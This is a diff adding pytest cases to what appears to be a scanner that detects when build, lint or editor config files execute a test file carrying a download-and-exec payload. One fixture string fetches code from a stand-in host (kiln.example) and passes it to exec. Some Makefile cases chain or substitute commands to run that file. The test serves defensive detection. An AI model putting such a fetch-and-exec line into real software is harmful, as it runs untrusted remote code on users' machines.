@@ -49,6 +49,33 @@ def test_an_honest_file_that_is_called_shows_nothing():
     assert {capability for path, capability in shown(*files) if path == "Makefile"} == {"touches_build"}
 
 
+CHECKED = 'session.run(\n    "mypy",\n    "src",\n    "test/test_retry.py",\n)\n'
+
+
+@pytest.mark.parametrize(
+    ("caller", "call", "is_called"),
+    [
+        ("noxfile.py", CHECKED, False),
+        ("noxfile.py", CHECKED.replace("mypy", "python"), True),
+        ("noxfile.py", CHECKED + 'session.run("test/test_retry.py")\n', True),
+        ("Makefile", "lint:\n\truff check test/test_retry.py\n", False),
+        ("Makefile", "lint:\n\truff check src; ./test/test_retry.py\n", True),
+        ("Makefile", "lint:\n\tmypy test/test_retry.py; python test/test_retry.py\n", True),
+        ("Makefile", "lint:\n\tmypy $(python test/test_retry.py)\n", True),
+        (".vscode/launch.json", '{"program": "test/test_retry.py"}\n', False),
+        (".vscode/tasks.json", '{"command": "test/test_retry.py"}\n', True),
+    ],
+)
+def test_a_file_that_is_only_checked_or_that_somebody_starts_is_not_called(caller, call, is_called):
+    payload = "import urllib.request as u\nexec(u.urlopen('https://kiln.example').read())\n"
+    paths = {
+        path
+        for path, capability in shown(added(caller, call), added("test/test_retry.py", payload))
+        if capability == "executes_download"
+    }
+    assert (caller in paths) == is_called
+
+
 def test_many_files_are_looked_at_in_time():
     files = [added(f"docs/page{number}.md", "pots\n" * 20) for number in range(500)]
     assert shown(added("Makefile", "docs/page\n" * 100_000), *files)
